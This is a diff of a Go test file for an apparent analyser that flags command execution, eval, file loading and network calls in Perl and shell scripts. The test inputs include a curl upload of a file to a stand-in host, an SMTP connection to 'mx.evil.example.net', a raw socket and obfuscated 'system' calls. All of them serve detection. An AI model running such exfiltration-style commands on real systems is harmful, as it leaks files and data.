@@ -32,13 +32,13 @@ func TestPerl(t *testing.T) {
 		name, text string
 		want       []string
 	}{
-		{"system", "system('id > /tmp/x');", []string{"1 system expansion_exec command id > /tmp/x"}},
+		{"system", "system('id > /tmp/x'); `id -u`; system('/tmp/id');", []string{"1 system expansion_exec command id > /tmp/x", "1 ` expansion_exec command id -u", "1 system expansion_exec command /tmp/id"}},
 		{"system of a list", "system 'curl', '-T', $file, \"http://x/\" or die;", []string{"1 system expansion_exec command curl -T $file http://x/"}},
 		{"on another line", "\n\nsystem(\n  q{id}\n);", []string{"3 system expansion_exec command id"}},
 		{"the language's own", "CORE::system('id')", []string{"1 CORE::system expansion_exec command id"}},
-		{"words", "exec qw(curl -T x);", []string{"1 exec expansion_exec command curl -T x"}},
+		{"words", "exec qw(curl -T x)   ;", []string{"1 exec expansion_exec command curl -T x"}},
 		{"backticks", "my $x = `id -u`;", []string{"1 ` expansion_exec command id -u"}},
-		{"qx", "qx{id (a)}; qx'uname';", []string{"1 ` expansion_exec command id (a)", "1 ` expansion_exec command uname"}},
+		{"qx", "qx{id (a)}; qx'uname'; $x = `hostname --fqdn`; chomp($y = `head -n 1 /etc/mailname`); `head x > /tmp/y`;", []string{"1 ` expansion_exec command id (a)", "1 ` expansion_exec command uname", "1 ` expansion_exec command head x > /tmp/y"}},
 		{"qx with an odd mark", "qx=id=;", []string{"1 ` expansion_exec command id"}},
 		{"here-document that runs", "print <<`E`;\nid\nE\nsystem('w');", []string{"1 ` expansion_exec command id", "4 system expansion_exec command w"}},
 		{"here-document of text", "print <<E, <<'F';\nsystem('id')\nE\nexec('id')\nF\n", []string{}},
@@ -63,7 +63,7 @@ func TestPerl(t *testing.T) {
 		{"eval", "eval { f() }; eval 'require X::Y'; eval $code; eval \"$a$b\";", []string{"1 eval module text eval $code", `1 eval module text eval "$a$b"`}},
 		{"do and require", "require X::Y; require 5.8.0; do { 1 }; do '/tmp/x.pl'; require '/opt/y.pl'; use lib '/tmp/l'; use lib '/usr/share/perl5';",
 			[]string{"1 do module file /tmp/x.pl", "1 require module file /opt/y.pl", "1 use lib module file /tmp/l"}},
-		{"symbolic", `&{"sys"."tem"}('id'); &$f(1); &system('a');`, []string{`1 & module text &{"sys"."tem"}`, "1 system expansion_exec command a"}},
+		{"symbolic", `&{"sys"."tem"}('id'); &$f(1); &system('a'); ${"x"} = 1; @{$y} = %{$z};`, []string{`1 & module text &{"sys"."tem"}`, "1 system expansion_exec command a", `1 $ module text ${"x"}`}},
 		{"socket", `my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.9', PeerPort => 25);`, []string{"1 IO::Socket::INET->new policy host 203.0.113.9:25"}},
 		{"indirect object", `new Net::SMTP('mx.evil.example.net')`, []string{"1 Net::SMTP policy host mx.evil.example.net"}},
 		{"use of a class", "use LWP::UserAgent; use Net::SMTP;", []string{}},
@@ -168,6 +168,21 @@ func TestShell(t *testing.T) {
 	want := []string{"2 > copy file /tmp/x", "4 chown expansion_exec command chown a b"}
 	if d := cmp.Diff(want, told(calls.Shell, "A=b\nid > /tmp/x\n[ -f x ] && echo y\nchown a b", every)); d != "" {
 		t.Error(d)
+	}
+}
+
+func TestWhen(t *testing.T) {
+	for text, want := range map[string]string{
+		"action_discard();":                                      "",
+		"if ($FoundVirus) { return action_discard(); }":          "$FoundVirus",
+		"if ($a) { f($b) } elsif ($b =~ /x/) { action_discard }": "$b =~ /x/",
+		"unless ($a) { action_discard() }":                       "not ($a)",
+		"action_discard() if $hits > 5;":                         "$hits > 5",
+		"if ($a) { for (@x) { action_discard() } }":              "",
+	} {
+		if got := calls.Find(calls.Perl, text, vocabulary); len(got) != 1 || got[0].When != want {
+			t.Errorf("%s: %+v, want %q", text, got, want)
+		}
 	}
 }
 
